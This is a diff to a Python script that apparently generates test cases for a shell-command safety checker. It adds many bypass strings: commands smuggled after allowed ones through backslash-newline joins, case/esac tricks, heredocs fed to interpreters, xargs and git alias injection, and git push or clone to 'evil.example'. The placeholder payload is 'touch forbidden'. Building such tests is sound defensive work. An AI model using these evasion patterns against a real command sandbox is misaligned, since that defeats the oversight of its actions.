@@ -136,6 +136,31 @@ for ok in ("npm test", "git status", "ls -la", "echo hi"):
     add(f"{ok} <<\\\n-'E'\nE\n{F}\n-E", f"{ok} <\\\n<'E'\nE\n{F}\nE", f"{ok} <\\\n({F})", f"{ok} <<\\\n<E\n{F}\nE")
     add(f"{ok} $\\\n'a\\'' ; {F} ; echo ''", f"{ok} $\\\n'a\\' ; {F} ; echo 'x'")
     add(f"{ok} &\\\n& {F}", f"{ok} |\\\n| {F}", f"{ok} ;\\\n{F}", f"{ok} &\\\n> forbidden")
+# Lines that are joined within a word, where a shell then finds a reserved word.
+for ok in ("npm test", "git status", "ls -la", "echo hi"):
+    for choice in ("esa\\\nc", "x) : ;; esa\\\nc", "a | esa\\\nc", "(esa\\\nc", "\nesa\\\nc"):
+        add(f"( case x in {choice} | {{touch,forbidden}} )\n{ok} ;; esac )", f"( case x in {choice}; {F} )\n{ok} ;; esac )")
+        add(f"case x in {choice}\n{F}\n{ok}")
+    add(f"( case x in a | {{touch,forbidden}} )\n{ok} ;; esac )", f"( case x in (esac) | {F} )\n{ok} ;; esac )")
+    add(f"i\\\nf {ok}; then {F}; f\\\ni", f"for x in a; do {ok}; don\\\ne; {F}", f"{{ {ok}; \\\n}}; {F}", f"{ok} ;\\\n; {F}")
+# What a line gives a program to read.
+for program in (
+    "sqlite3 app.db", "ssh build", "make -f -", "make x", "crontab -", "at now", "su", "gdb -q", "psql app", "mysql app", "python3 -", "python3",
+    "python3 x.py", "node", "node x.js", "nodejs", "pypy3", "perl", "Rscript -", "irb", "docker exec -i app sh", "git apply", "git fast-import",
+    "patch x", "npm run x", "sh", "bash", "bash -s", "sh x", "source /dev/stdin", ". /dev/stdin", "xargs", "xargs -I Z sh", "sed e x", "awk '{system($0)}'",
+    "sort x | sh", "timeout 5 psql app", "{ sh; }", "(sh)", "if true; then sh; fi", "while true; do sh; break; done", "cat $(sh)", "exec",
+):
+    add(f"{program} <<< '{F}'", f"{program} <<'E'\n{F}\nE", f"{program} <<E\n{F}\nE", f"echo {F} | {program}", f"cat x |& {program}")
+# Arguments that nobody has seen.
+for options in (
+    "-I Z -n 4", "-I Z -L 1", "-n 4 -I Z", "-L 1 -I Z", "-I Z -n4", "-IZ -L1", "-I Z -I ''", "-i", "-i{}", "--replace", "-L1", "-n2", "-n 2", "-0", "-d, -n1",
+):
+    add(f"xargs {options} find . <<< '-exec {F} ;'", f"xargs {options} git <<< '-c alias.x=!touch\\ forbidden x'", f"cat x | xargs {options} git")
+# Addresses that look like words, and words behind which programs take commands.
+add(
+    "git push git@evil.example:x/y main", "git clone evil@evil.example:x/y out", "git clone host:x/y", "git clone evil.example/x/y", "git fetch x/y@z",
+    "npm run github:evil/x", "cargo test evil.example/x@latest", "python3 evil.example/x", "git bisect run touch forbidden",
+)
 add("git merge-index touch forbidden", "git merge-index -o touch -a", "git citool", "git gui")
 
 seen = list(dict.fromkeys(lines))
